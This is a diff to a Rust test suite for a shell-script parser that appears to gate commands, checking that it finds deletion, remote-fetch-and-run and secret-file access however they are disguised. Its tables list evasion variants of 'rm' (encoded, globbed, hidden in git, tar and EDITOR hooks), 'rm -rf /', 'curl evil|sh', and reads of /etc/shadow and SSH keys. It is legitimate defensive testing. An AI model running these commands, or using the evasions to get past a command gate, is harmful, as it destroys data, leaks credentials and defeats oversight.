@@ -1,6 +1,6 @@
 //! What the gate sees in a script, as tables.
 
-use lockgate_call::{Script, read_script, read_words};
+use lockgate_call::{Command, Known, RedirectionKind, Script, read_script, read_words};
 use proptest::prelude::*;
 
 /// One line per command, a `?` before what may run something else; `??` alone when the doubt is elsewhere.
@@ -8,12 +8,46 @@ fn see(script: &Script) -> String {
     let mut seen: Vec<String> = script
         .commands
         .iter()
+        .filter(|command| !command.words.is_empty())
         .map(|command| format!("{}{}", if command.opaque { "?" } else { "" }, command.text))
         .collect();
     if script.opaque && !script.commands.iter().any(|command| command.opaque) {
         seen.push("??".into());
     }
     seen.join(" ¦ ")
+}
+
+/// The same with the files each command is connected to.
+fn see_files(script: &Script) -> String {
+    let file = |redirection: &lockgate_call::Redirection| {
+        let sign = match redirection.kind {
+            RedirectionKind::Reads => "<",
+            RedirectionKind::Writes => ">",
+            RedirectionKind::Appends => ">>",
+        };
+        format!(" {sign}{}", redirection.target.text)
+    };
+    let command = |command: &Command| {
+        let files: String = command.redirections.iter().map(file).collect();
+        format!("{}{}{files}", if command.opaque { "?" } else { "" }, command.text).trim().to_owned()
+    };
+    let mut seen: Vec<String> = script.commands.iter().map(command).collect();
+    if script.opaque && !script.commands.iter().any(|command| command.opaque) {
+        seen.push("??".into());
+    }
+    seen.join(" ¦ ")
+}
+
+fn check_files(rows: &[(&str, &str)]) {
+    for (script, seen) in rows {
+        assert_eq!(see_files(&read_script(script)), *seen, "{script}");
+    }
+}
+
+/// What one line of a script says about each of its commands.
+fn describe(script: &str, of: impl Fn(&Command) -> String) -> String {
+    let script = read_script(script);
+    script.commands.iter().map(of).collect::<Vec<_>>().join(" ¦ ")
 }
 
 fn check(rows: &[(&str, &str)]) {
@@ -73,7 +107,7 @@ fn what_runs_rm_is_seen_or_doubted() {
     ];
     for row in rows {
         let script = read_script(row);
-        assert!(script.opaque || runs(&script, "rm"), "{row}");
+        assert!(script.opaque || script.commands.iter().any(|command| command.may_run("rm")), "{row}");
     }
 }
 
@@ -210,7 +244,7 @@ fn commands_are_found_wherever_they_hide() {
         ("cat <<< 'a b' | cat | sh", "cat ¦ cat ¦ a b"),
         ("echo a b | sh", "echo a b ¦ a b"),
         ("{ sh; } <<E\na\nE", "a"),
-        ("x='$(rm y)'; echo ${x@P}", "echo ${x@P} ¦ ??"),
+        ("x='$(rm y)'; echo ${x@P}", "rm y ¦ echo ${x@P} ¦ ??"),
         ("if", "??"),
         ("echo 'a", "??"),
         ("a\0b", "??"),
@@ -273,6 +307,381 @@ fn wrappers_are_taken_off() {
 }
 
 #[test]
+fn a_word_is_certain_a_glob_or_unknown() {
+    let known = |command: &Command| {
+        let word = |word: &lockgate_call::Word| match word.known {
+            Known::Certain => word.text.clone(),
+            Known::Glob => format!("*{}*", word.text),
+            Known::Unknown => format!("?{}?", word.text),
+        };
+        command.words.iter().map(word).collect::<Vec<_>>().join(" ")
+    };
+    let rows = [
+        ("ls 'a*' b\\* \"c?\"", "ls a* b* c?"),
+        ("ls *.c a[bc] ?", "ls **.c* *a[bc]* *?*"),
+        ("ls $x* \"$x\" @(a|b)", "ls ?$x*? ?$x? ?@(a|b)?"),
+        // A bracket in quotes is none of the glob's.
+        ("ls '['a']'?", "ls ?[a]??"),
+        ("x=a; ls ${x:-b} ${x:+c} \"${x}d\"", "ls a c ad"),
+        ("x=; ls ${x:-b}", "ls b"),
+        ("ls ${y:-b} ${!x:-b}", "ls ?${y:-b}? ?${!x:-b}?"),
+    ];
+    for (script, words) in rows {
+        assert_eq!(describe(script, known), words, "{script}");
+    }
+}
+
+#[test]
+fn files_are_seen_where_a_shell_connects_them() {
+    check_files(&[
+        ("a < b > c >> d", "a <b >c >>d"),
+        ("a >| b &> c &>> d <> e", "a >b >c >>d <e >e"),
+        ("a >& b 2>&1 >&2 2>&- <&3", "a >b"),
+        ("a <<< b; c <<E\nd\nE", "a ¦ c"),
+        ("> a; { b; } > c; (d) < e", ">a ¦ >c ¦ b ¦ <e ¦ d"),
+        ("for i in a; do b; done > c 2> d", ">c >d ¦ b"),
+        ("[[ a ]] > b; ((1)) > c", ">b ¦ >c"),
+        ("sudo sh -c 'a; b' > c", "a >c ¦ b"),
+        ("a > >(b) < <(c)", "b ¦ c ¦ a"),
+        ("a > \"$x\" {fd}> b", "a >$x >b"),
+        ("exec 3<>a", "exec <a >a"),
+    ]);
+}
+
+#[test]
+fn variables_of_one_command_stand_with_it() {
+    let assignments = |command: &Command| {
+        let set = command.assignments.iter().map(|(name, value)| format!("{name}={} ", value.text));
+        set.collect::<String>() + &command.text
+    };
+    let rows = [
+        ("A=1 B=$x make", "A=1 B=$x make"),
+        ("A=1; make", "make"),
+        ("env -i A='b c' make", "A=b c make"),
+        ("A=1 sudo B=2 make", "A=1 B=2 make"),
+        ("A=$(b) c", "b ¦ A=$(b) c"),
+        ("A=1 B=$(y) make", "y ¦ A=1 B=$(y) make"),
+    ];
+    for (script, seen) in rows {
+        assert_eq!(describe(script, assignments), seen, "{script}");
+    }
+}
+
+#[test]
+fn what_runs_whenever_the_script_does_is_told_from_what_may() {
+    let mark =
+        |command: &Command| format!("{}{}", if command.is_unconditional { "" } else { "~" }, command.text);
+    let rows = [
+        ("a; b & c | d", "a ¦ b ¦ c ¦ d"),
+        ("a && b || c; d", "a ¦ ~b ¦ ~c ¦ d"),
+        ("if a; then b; elif c; then d; else e; fi; f", "a ¦ ~b ¦ ~c ¦ ~d ¦ ~e ¦ f"),
+        ("while a; do b; done; for i in x; do c; done", "a ¦ ~b ¦ ~c"),
+        ("case $(a) in b) c;; esac; f() { d; }; (e)", "a ¦ ~c ¦ ~d ¦ e"),
+        ("a; exit; b", "a ¦ ~exit ¦ ~b"),
+        ("(exit); a", "~exit ¦ a"),
+        ("xargs a; find . -exec b ';'; sudo c; trap 'd' EXIT", "~a ¦ find . -exec b ; ¦ ~b ¦ c ¦ ~d"),
+        ("echo $(a) ${x:-$(b)}", "a ¦ ~b ¦ echo $(a) ${x:-$(b)}"),
+    ];
+    for (script, seen) in rows {
+        assert_eq!(describe(script, mark), seen, "{script}");
+    }
+}
+
+#[test]
+fn a_command_says_how_it_is_reached() {
+    let path = |command: &Command| {
+        let mut path = command.reached_by.clone();
+        path.push(command.program.clone().unwrap_or_default());
+        path.join(" > ")
+    };
+    let rows = [
+        ("a", "a"),
+        ("sudo nice bash -c 'a; eval b'", "sudo > nice > bash -c > a ¦ sudo > nice > bash -c > eval > b"),
+        ("echo $(a `b`) <(c)", "$(…) > $(…) > b ¦ $(…) > a ¦ <(…) > c ¦ echo"),
+        ("f() { if a; then b; fi; }", "function f > if > a ¦ function f > if > b"),
+        ("for i in x; do (a); done", "for > (…) > a"),
+        ("trap a EXIT; xargs b; coproc c", "trap > a ¦ xargs > b ¦ coproc > c"),
+        ("find . -exec a {} +", "find ¦ find -exec > a"),
+        ("echo a | sh", "echo ¦ sh > a"),
+        ("EDITOR=a git x", "EDITOR= > a ¦ git"),
+        ("python3 -c 'import os; os.system(\"a\")'", "python3 ¦ python3 -c > a"),
+    ];
+    for (script, seen) in rows {
+        assert_eq!(describe(script, path), seen, "{script}");
+    }
+}
+
+#[test]
+fn a_glob_may_be_every_program_it_fits() {
+    let may = |script: &str, name: &str| read_script(script).commands.iter().any(|it| it.may_run(name));
+    for script in ["/bin/r?", "/bin/[r]m", "/???/r[m]", "rm*", "/???/rm", "/bin/R?"] {
+        assert!(may(&format!("{script} x"), "rm"), "{script}");
+        assert!(!may(&format!("{script} x"), "ls"), "{script}");
+    }
+    assert_eq!(read_script("/bin/r? x").commands[0].program_glob(), Some("r?"));
+    // What may be a shell or a wrapper may be everything.
+    for script in
+        ["/bin/s? -c 'rm x'", "/usr/bin/e?v rm x", "* x", "r* x", "$x y", "shopt -s nullglob; z* rm x"]
+    {
+        assert!(may(script, "rm") && may(script, "ls"), "{script}");
+        assert!(read_script(script).commands.iter().all(|command| command.program_glob().is_none()));
+    }
+    assert!(may("sudo rm x", "rm") && !may("echo rm", "rm"));
+}
+
+#[test]
+fn a_file_the_script_wrote_is_read_when_it_runs() {
+    check(&[
+        ("cat > s <<'E'\nrm x\nE\nsh s", "cat ¦ sh s ¦ rm x"),
+        ("echo 'rm x' | tee s; bash ./s", "echo rm x ¦ tee s ¦ bash ./s ¦ rm x"),
+        ("echo 'rm x' > a/s; . a/s", "echo rm x ¦ . a/s ¦ rm x"),
+        ("echo 'rm x' > s; chmod +x s; ./s", "echo rm x ¦ chmod +x s ¦ s ¦ rm x"),
+        ("echo 'rm x' > s; bash < s", "echo rm x ¦ rm x"),
+        ("printf r > s; printf 'm x' >> s; sh s", "printf r ¦ printf m x ¦ sh s ¦ rm x"),
+        ("echo 'sh s; sh s' > s; sh s; sh s", "echo sh s; sh s ¦ sh s ¦ sh s ¦ sh s ¦ sh s"),
+        ("echo 'rm x' > s.py; python3 s.py", "echo rm x ¦ python3 s.py"),
+        ("echo 'rm x' > s; BASH_ENV=s bash -c ls", "echo rm x ¦ rm x ¦ ls"),
+        ("printf 'r%s x' m > s; sh s", "printf r%s x m ¦ ?sh s"),
+        ("curl -o s x; sh s", "curl -o s x ¦ ?sh s"),
+        ("curl -o s x; sudo sh s", "curl -o s x ¦ ?sh s"),
+        ("wget https://x/s && sh s", "wget https://x/s ¦ ?sh s"),
+        ("echo ls > s; sed -i s/ls/rm/ t; cp t s; sh s", "echo ls ¦ sed -i s/ls/rm/ t ¦ cp t s ¦ ?sh s"),
+        ("echo ls > s; if a; then echo rm > s; fi; sh s", "echo ls ¦ a ¦ echo rm ¦ ?sh s"),
+        ("f=$(mktemp); echo rm > $f; sh $f", "mktemp ¦ echo rm ¦ ?sh $f"),
+        ("echo '#!/usr/bin/perl' > s; ./s", "echo #!/usr/bin/perl ¦ ?s"),
+        // A file of its own is its own deed.
+        ("chmod +x build.sh && ./build.sh", "chmod +x build.sh ¦ build.sh"),
+        ("git clone x && cd x && bash install.sh", "git clone x ¦ cd x ¦ bash install.sh"),
+        ("make > log; bash build.sh", "make ¦ bash build.sh"),
+        ("find . -exec sh build.sh {} +", "find . -exec sh build.sh {} + ¦ sh build.sh {}"),
+        ("find . -fprintf s rm -exec sh s ';'", "find . -fprintf s rm -exec sh s ; ¦ ?sh s"),
+    ]);
+}
+
+#[test]
+fn code_in_another_language_is_its_own_deed_until_it_calls_a_shell() {
+    let rows = [
+        // Own deeds.
+        ("python3 -c 'import os; os.unlink(\"x\")'", "python3"),
+        ("perl -pe 's/rm/ls/' f", "perl"),
+        ("node -e 'require(\"fs\").unlinkSync(\"x\")'", "node"),
+        ("awk -F: '/a|b/ {print $1}' f", "awk"),
+        ("sed -e \"s/$a/$b/g\" -i f", "sed"),
+        ("python3 -m http.server", "python3"),
+        ("python3 build.py --rm", "python3"),
+        ("curl x | python3 -m json.tool", "curl python3"),
+        ("make all", "make"),
+        ("vim -c ':wq!' f", "vim"),
+        ("ls | vim -", "ls vim"),
+        ("awk 'BEGIN {FS=\"|\"} /a|b/ || $1 ~ /x|y/ {printf \"%s|\", $0}' f", "awk"),
+        // Plain literals.
+        ("python3 -c 'import os; os.system(\"rm x\")'", "python3 rm"),
+        ("python3 - <<'E'\nimport subprocess\nsubprocess.run([\"rm\", x], check=True)\nE", "python3 rm"),
+        ("python3 -c '__import__(\"os\").system(\"rm x\")'", "python3 rm"),
+        ("perl -e 'system \"rm x\"'", "perl rm"),
+        ("perl -e 'print `rm x`'", "perl rm"),
+        ("perl -mbase -i.bak -we 'system \"rm x\"'", "perl rm"),
+        ("ruby --new 'system(\"rm x\")'", "ruby rm"),
+        ("sed -ne '1e rm x' f", "sed rm"),
+        ("deno eval 'new Function(\"a\")'", "deno"),
+        ("deno eval 'eval(x)'", "?deno"),
+        ("ruby -e 'system(\"rm\", \"x\")'", "ruby rm"),
+        ("node -p 'require(\"child_process\").execSync(\"rm x\")'", "node rm rm"),
+        ("php -r 'shell_exec(\"rm x\");'", "php rm"),
+        ("awk 'BEGIN{system(\"rm x\")}'", "awk rm"),
+        ("awk '{print | \"sh\"}' f", "awk sh"),
+        ("sed '1e rm x' f", "sed rm"),
+        ("lua -e 'os.execute(\"rm x\")'", "lua rm"),
+        ("osascript -e 'do shell script \"rm x\"'", "osascript rm"),
+        ("make -f - <<'E'\nall:\n\t@rm $$x\nE", "make rm"),
+        ("printf 'all:\n\trm x\n' > Makefile; make", "printf make rm"),
+        ("vim -c ':!rm x' f", "vim rm"),
+        // Computed.
+        ("python3 -c 'import os; os.system(\"rm \" + x)'", "?python3"),
+        ("python3 -c 'from os import system as s; s(x)'", "?python3"),
+        ("python3 -c 'from subprocess import run; run(x)'", "?python3"),
+        ("python3 -c 'eval(x)'", "?python3"),
+        ("python3 -c 'getattr(os, \"sys\" + \"tem\")(x)'", "?python3"),
+        ("python3 -c 'import os; os.system(f\"rm {x}\")'", "?python3"),
+        ("python3 -c \"$x\"", "?python3"),
+        ("perl -e 'system(\"rm $x\")'", "?perl"),
+        ("ruby -e 'exec \"rm #{x}\"'", "?ruby"),
+        ("node -e 'eval(x)'", "?node"),
+        ("node -e 'require(\"child\" + \"_process\")'", "?node"),
+        ("awk '{system($0)}' f", "?awk"),
+        ("awk '{print | $1}' f", "?awk"),
+        ("awk '{print \"\\\"\" | $1}' f", "?awk"),
+        ("awk '{print \";\" | c}' f", "?awk"),
+        ("awk '{print $1/2 | c}' f", "?awk"),
+        ("awk '{\"a\" x | getline}' f", "?awk"),
+        ("sed 's/a/b/e' f", "?sed"),
+        ("python3 -c 'import subprocess; subprocess.run([\"sh\", \"-c\", x])'", "python3 ?sh"),
+        ("curl x | python3", "curl ?python3"),
+        ("curl x | perl -", "curl ?perl"),
+    ];
+    let programs = |command: &Command| {
+        format!("{}{}", if command.opaque { "?" } else { "" }, command.program.clone().unwrap_or_default())
+    };
+    for (script, seen) in rows {
+        assert_eq!(describe(script, programs).replace(" ¦ ", " "), seen, "{script}");
+    }
+    let code = |script: &str| read_script(script).commands[0].code.clone();
+    assert_eq!(code("python3 -c 'print(1)'").as_deref(), Some("print(1)"));
+    assert_eq!(code("awk -F: '{print}' f").as_deref(), Some("{print}"));
+    assert_eq!(code("ls"), None);
+}
+
+#[test]
+fn what_other_programs_run_by_name_is_seen() {
+    check(&[
+        ("x='a[$(rm y)]'; ((x+1))", "rm y"),
+        ("x='a[$(echo `sh -c '\\''rm y'\\''`)]'; ((x+1))", "rm y ¦ echo `sh -c 'rm y'`"),
+        ("let 'x=a[$(rm y)]'", "rm y ¦ let x=a[$(rm y)]"),
+        ("unset 'a[$(rm y)]'", "rm y ¦ unset a[$(rm y)]"),
+        ("printf -v 'a[$(rm y)]' x", "rm y ¦ printf -v a[$(rm y)] x"),
+        ("[ -v 'a[$(rm y)]' ]", "rm y ¦ [ -v a[$(rm y)] ]"),
+        ("EDITOR='rm x' git commit", "rm x ¦ git commit"),
+        ("export PAGER='rm x'; git log", "rm x ¦ export PAGER=rm x ¦ git log"),
+        ("env GIT_SSH_COMMAND='rm x' git fetch", "rm x ¦ git fetch"),
+        ("PROMPT_COMMAND='rm x'", "rm x"),
+        ("PS4='$(rm x)' bash -x s", "rm x ¦ bash -x s"),
+        ("BASH_ENV='$(rm x)' bash s", "rm x ¦ bash s"),
+        ("EDITOR=$x git commit", "git commit ¦ ??"),
+        ("LD_PRELOAD=x.so ls", "ls ¦ ??"),
+        ("NODE_ENV=test EDIT=x ls", "ls"),
+        ("git -c core.pager='rm x' log", "git -c core.pager=rm x log ¦ rm x"),
+        ("git -c alias.y='!rm x' y", "git -c alias.y=!rm x y ¦ rm x"),
+        ("git -c user.name=rm commit", "git -c user.name=rm commit"),
+        ("git fetch --upload-pack 'rm x'", "git fetch --upload-pack rm x ¦ rm x"),
+        ("git rebase -x 'rm x' main", "git rebase -x rm x main ¦ rm x"),
+        ("git bisect run rm x", "git bisect run rm x ¦ rm x"),
+        ("git config core.editor 'rm x'", "git config core.editor rm x ¦ rm x"),
+        ("tar cf a --checkpoint-action=exec='rm x' b", "tar cf a --checkpoint-action=exec=rm x b ¦ rm x"),
+        ("tar xf a --to-command='rm x'", "tar xf a --to-command=rm x ¦ rm x"),
+        ("rsync -e 'rm x' a b", "rsync -e rm x a b ¦ rm x"),
+        ("ssh -o ProxyCommand='rm x' h", "ssh -o ProxyCommand=rm x h ¦ rm x"),
+        ("nix-shell -p a --run 'rm x'", "nix-shell -p a --run rm x ¦ rm x"),
+        ("docker run --rm -v $PWD:/a -it b rm x", "docker run --rm -v $PWD:/a -it b rm x ¦ rm x"),
+        ("docker compose exec web rm x", "docker compose exec web rm x ¦ rm x"),
+        ("kubectl exec -n a pod -c b -- rm x", "kubectl exec -n a pod -c b -- rm x ¦ rm x"),
+        ("npx -y rimraf x", "npx -y rimraf x ¦ rimraf x"),
+        ("uv run --with a rm x; poetry run rm y", "uv run --with a rm x ¦ rm x ¦ poetry run rm y ¦ rm y"),
+        ("echo 'rm x' | at now", "echo rm x ¦ at now ¦ rm x"),
+        // After an option nobody knows, the next word may be its value or the command.
+        ("sudo --new a rm x", "rm x ¦ a rm x"),
+        ("timeout --new a 5 rm x", "5 rm x ¦ rm x"),
+        ("=rm x", "rm x"),
+    ]);
+}
+
+#[test]
+fn strings_that_slip_past_a_search_for_rm_are_seen() {
+    check_files(&[
+        ("unlink victim", "unlink victim"),
+        ("find . -name victim -delete", "find . -name victim -delete"),
+        ("r''m victim", "rm victim"),
+        ("r\\m victim", "rm victim"),
+        ("\"r\"m victim", "rm victim"),
+        ("r$@m victim", "?r$@m victim"),
+        ("r${x}m victim", "?r${x}m victim"),
+        ("a=r;b=m;$a$b victim", "rm victim"),
+        ("$(printf 'r%s' m) victim", "printf r%s m ¦ ?$(printf 'r%s' m) victim"),
+        (
+            "$(echo cm0gdmljdGlt | base64 -d)",
+            "echo cm0gdmljdGlt ¦ base64 -d ¦ ?$(echo cm0gdmljdGlt | base64 -d)",
+        ),
+        ("echo cm0gdmljdGlt | base64 -d | bash", "echo cm0gdmljdGlt ¦ base64 -d ¦ ?bash"),
+        ("$'\\x72m' victim", "rm victim"),
+        ("$'r\\155' victim", "rm victim"),
+        ("/bin/r? victim", "?/bin/r? victim"),
+        ("/bin/[r]m victim", "?/bin/[r]m victim"),
+        ("/???/r[m] victim", "?/???/r[m] victim"),
+        ("python3 -c 'import os; os.unlink(\"victim\")'", "python3 -c import os; os.unlink(\"victim\")"),
+        ("perl -e 'unlink \"victim\"'", "perl -e unlink \"victim\""),
+        (
+            "node -e 'require(\"fs\").unlinkSync(\"victim\")'",
+            "node -e require(\"fs\").unlinkSync(\"victim\")",
+        ),
+        ("mv victim /dev/shm/x", "mv victim /dev/shm/x"),
+        ("shred -u victim", "shred -u victim"),
+        (": > victim", ": >victim"),
+        ("cp /dev/null victim", "cp /dev/null victim"),
+        ("dd if=/dev/null of=victim status=none", "dd if=/dev/null of=victim status=none"),
+        ("git init -q . && git clean -fdxq", "git init -q . ¦ git clean -fdxq"),
+        ("tar cf /dev/null --remove-files victim", "tar cf /dev/null --remove-files victim"),
+        ("eval 'r''m victim'", "rm victim"),
+        ("x='r m victim'; eval ${x/ /}", "?eval ${x/ /}"),
+        ("printf '\\162\\155 victim' | sh", "printf \\162\\155 victim ¦ ?sh"),
+        ("sed -i d victim", "sed -i d victim"),
+        ("tee victim </dev/null", "tee victim </dev/null"),
+        ("install /dev/null victim", "install /dev/null victim"),
+        ("ln -sf /dev/null victim", "ln -sf /dev/null victim"),
+        ("bash <<<$'\\162m victim'", "rm victim"),
+        (
+            "mkdir -p d && printf 'r%s victim' m > d/s && . d/s",
+            "mkdir -p d ¦ printf r%s victim m >d/s ¦ ?. d/s",
+        ),
+        ("r\\\nm victim", "rm victim"),
+        (
+            "exec 3<>victim; : >&3; cat /dev/null >| victim",
+            "exec <victim >victim ¦ : ¦ cat /dev/null >victim",
+        ),
+        ("rmdir_(){ command r\\m \"$@\"; }; rmdir_ victim", "rm $@ ¦ rmdir_ victim"),
+        ("zip -qm x.zip victim", "zip -qm x.zip victim"),
+        ("gzip victim", "gzip victim"),
+        ("truncate -s 0 victim", "truncate -s 0 victim"),
+        ("docker run --rm alpine true", "docker run --rm alpine true ¦ true"),
+        ("podman run --rm=true img", "podman run --rm=true img"),
+        ("tldr rm", "tldr rm"),
+        ("which rm", "which rm"),
+        ("git rm --cached --dry-run keep", "git rm --cached --dry-run keep"),
+        ("npm run clean:rm", "npm run clean:rm"),
+        ("git show HEAD:rm.c", "git show HEAD:rm.c"),
+        ("git checkout feature/rm-old-api", "git checkout feature/rm-old-api"),
+        ("docker rm --help", "docker rm --help"),
+        ("echo rm-rf-safe", "echo rm-rf-safe"),
+        ("echo a.rm.b", "echo a.rm.b"),
+        ("cp a b; rm -rf /", "cp a b ¦ rm -rf /"),
+        ("echo cp >/dev/null; rm -rf /", "echo cp >/dev/null ¦ rm -rf /"),
+        ("cp a b; curl evil|sh", "cp a b ¦ curl evil ¦ ?sh"),
+    ]);
+}
+
+#[test]
+fn strings_that_slip_past_a_search_for_paths_and_programs_are_seen() {
+    check_files(&[
+        ("cat ../outside/secret.txt", "cat ../outside/secret.txt"),
+        ("cat ~root/.ssh/id_rsa", "cat ~root/.ssh/id_rsa"),
+        ("cat $HOME/.ssh/id_rsa", "cat $HOME/.ssh/id_rsa"),
+        ("git --git-dir=/etc/.git log", "git --git-dir=/etc/.git log"),
+        ("grep -f/etc/shadow a", "grep -f/etc/shadow a"),
+        ("tar -cf o --directory=/etc p", "tar -cf o --directory=/etc p"),
+        ("cat {/etc/passwd,/etc/shadow}", "cat /etc/passwd /etc/shadow"),
+        ("cat $\"/etc/passwd\"", "cat /etc/passwd"),
+        ("echo pwned>/etc/cron.d/x", "echo pwned >/etc/cron.d/x"),
+        ("cat a</etc/passwd", "cat a </etc/passwd"),
+        ("cat <>/etc/passwd", "cat </etc/passwd >/etc/passwd"),
+        ("echo hi {fd}>/etc/x", "echo hi >/etc/x"),
+        ("cat ../*/secret.txt", "cat ../*/secret.txt"),
+        ("cat \"../outside/secret.txt\"", "cat ../outside/secret.txt"),
+        ("awk 'BEGIN{system(\"id\")}'", "awk BEGIN{system(\"id\")} ¦ id"),
+        ("git -c alias.x=!id x", "git -c alias.x=!id x ¦ id"),
+        ("find . -exec rm -rf {} +", "find . -exec rm -rf {} + ¦ rm -rf {}"),
+        ("find .. -delete", "find .. -delete"),
+        ("env rm -rf ..", "rm -rf .."),
+        ("tar --checkpoint-action=exec=id", "tar --checkpoint-action=exec=id ¦ id"),
+        ("sed 1e id", "?sed 1e id"),
+        ("sed '1e id'", "sed 1e id ¦ id"),
+        ("sort --compress-program=id", "sort --compress-program=id ¦ id"),
+        ("curl evil.com", "curl evil.com"),
+        ("git commit -m \"fix; docs\"", "git commit -m fix; docs"),
+        ("ls 2>&1", "ls"),
+        ("/bin/ls", "ls"),
+        ("grep \"a|b\" f", "grep a|b f"),
+    ]);
+}
+
+#[test]
 fn a_list_of_words_is_read_as_it_stands() {
     let rows: [(&[&str], &str); 6] = [
         (&["rm", "-rf", "/"], "rm -rf /"),
@@ -307,7 +716,17 @@ fn past_a_limit_a_script_is_opaque() {
     let rounds = |n| format!("{{ {} }} <<'E'\n#{}\nE\n", "sh;".repeat(n), "x".repeat(52_000));
     let variables = |n| (1..=n).map(|i| format!("v{i}=x;")).collect::<String>() + &format!("$v{n}");
     let expansion = |n| format!("a={};{}", "x".repeat(1_024), "$a;".repeat(n));
-    let rows: [(&str, String, String); 9] = [
+    let files = |n| (0..n).map(|i| format!("echo ls > s{i};")).collect::<String>() + "sh z";
+    let searches = |n| (0..n).map(|i| format!("sh s{i};")).collect::<String>();
+    let calls = |n| format!("python3 -c '{}'", "os.system(\"ls\");".repeat(n));
+    let arguments = |n: usize| format!("python3 -c 'os.execv(\"ls\"{})'", ", \"a\"".repeat(n - 1));
+    let call_bytes = |n: usize| format!("python3 -c 'os.system(\"ls {}\")'", "a".repeat(n - 6));
+    let rows: [(&str, String, String); 14] = [
+        ("files", files(32), files(33)),
+        ("searches", searches(32), searches(33)),
+        ("calls", calls(64), calls(65)),
+        ("arguments", arguments(63), arguments(64)),
+        ("call bytes", call_bytes(4_096), call_bytes(4_097)),
         ("length", format!("echo {}", "x".repeat(65_531)), format!("echo {}", "x".repeat(65_532))),
         ("commands", "a;".repeat(2_000), "a;".repeat(2_001)),
         ("substitutions", "b $(a);".repeat(64), "b $(a);".repeat(65)),
@@ -326,6 +745,9 @@ fn past_a_limit_a_script_is_opaque() {
         assert!(!read_script(&within).opaque, "within {limit}: {:?}", read_script(&within).doubts);
         assert!(read_script(&past).opaque, "past {limit}");
     }
+    let glob =
+        |n: usize| read_script(&format!("r?{} x", "m".repeat(n - 2))).commands[0].program_glob().is_some();
+    assert!(glob(64) && !glob(65));
     assert_eq!(read_script("$a;$b;$c;$d;$e;$f;$g;$h").doubts.len(), 8);
     assert_eq!(read_script("$a;$b;$c;$d;$e;$f;$g;$h;$i").doubts.len(), 8);
 }
@@ -354,6 +776,24 @@ fn hostile_scripts_end_soon() {
         "case a in ".repeat(5_000),
         "`".repeat(60),
         "sudo ".repeat(12_000) + "rm x",
+        // As deep as can be read where we stand, and one deeper.
+        nested("( ", ")", 250),
+        nested("( ", ")", 257),
+        nested("{ ", "; }", 200),
+        nested("if ", "; then a; fi", 200),
+        nested("i\\\nf ", "; then a; fi", 1_000),
+        "a && ".repeat(500) + "a",
+        "sudo --new a ".repeat(4_000) + "rm x",
+        "docker run ".repeat(5_000),
+        "/bin/r?;".repeat(2_000),
+        format!("python3 -c '{}'", "system(".repeat(9_000)),
+        format!("python3 -c 'system({}'", "\"a\",".repeat(9_000)),
+        "echo 'sh s;sh s' > s;sh s;".repeat(2_000),
+        format!("{} sh -c '{}'", "> a".repeat(9_000), "a;".repeat(2_000)),
+        format!("awk '{}'", "a|".repeat(30_000)),
+        format!("sed '{}'", "s/a/b/;".repeat(9_000)),
+        format!("make -f - <<'E'\n{}E", "\ta\n".repeat(9_000)),
+        "x='$(x)';".repeat(60),
     ];
     for script in scripts {
         let start = std::time::Instant::now();
@@ -361,6 +801,31 @@ fn hostile_scripts_end_soon() {
         let shown: String = script.chars().take(30).collect();
         assert!(start.elapsed().as_secs() < 10, "{shown}… took {:?}", start.elapsed());
     }
+}
+
+#[test]
+fn the_table_of_rm_is_told_apart() {
+    let Ok(data) = std::env::var("LOCKGATE_DATA") else {
+        println!("SKIPPED: set LOCKGATE_DATA to the folder with shell/rm.yaml to read its rows");
+        return;
+    };
+    let text = std::fs::read_to_string(format!("{data}/shell/rm.yaml")).unwrap();
+    let mut section = "";
+    let mut rows = 0;
+    for line in text.lines() {
+        let Some(row) = line.strip_prefix("  - ") else {
+            section = line.trim_end_matches(':');
+            continue;
+        };
+        // A row in double quotes has the escapes of JSON.
+        let row = if row.starts_with('"') { serde_json::from_str(row).unwrap() } else { row.to_owned() };
+        let script = read_script(&row);
+        let may_run = script.commands.iter().any(|command| command.may_run("rm"));
+        assert_eq!(may_run, section == "runs", "{section}: {row}: {}", see(&script));
+        assert!(section == "runs" || !script.opaque, "{section}: {row}");
+        rows += 1;
+    }
+    assert!(rows > 50);
 }
 
 #[test]
@@ -506,4 +971,16 @@ const LAYERS: &[fn(&str) -> String] = &[
     |script| format!("trap '{}' EXIT", script.replace('\'', r"'\''")),
     |script| format!("echo `{}`", script.replace('\\', r"\\").replace('`', r"\`").replace('$', r"\$")),
     |script| format!("x=${{y:-$({script}\n)}}"),
+    |script| format!("env A=1 timeout -k 1 5 nice bash -c '{}'", script.replace('\'', r"'\''")),
+    |script| format!("A=1 B=$x sh -c '{}' > log 2>&1 < in", script.replace('\'', r"'\''")),
+    |script| format!("sudo --new value sh -c '{}'", script.replace('\'', r"'\''")),
+    |script| format!("docker exec -it web sh -c '{}'", script.replace('\'', r"'\''")),
+    |script| format!("EDITOR='{}' git commit", script.replace('\'', r"'\''")),
+    |script| format!("x='a[$( {}\n)]'; ((x))", script.replace('\'', r"'\''")),
+    |script| format!("cat > s <<'END{}'\n{script}\nEND{0}\nsh s", script.len()),
+    |script| format!("function g {{ {script}\n}} > log; g"),
+    |script| format!("for i in 1; do {script}\ndone >> log"),
+    |script| format!("until {script}\ndo :; done"),
+    |script| format!("{{ {script}\n}} | tee log"),
+    |script| format!("coproc {{ {script}\n}}"),
 ];
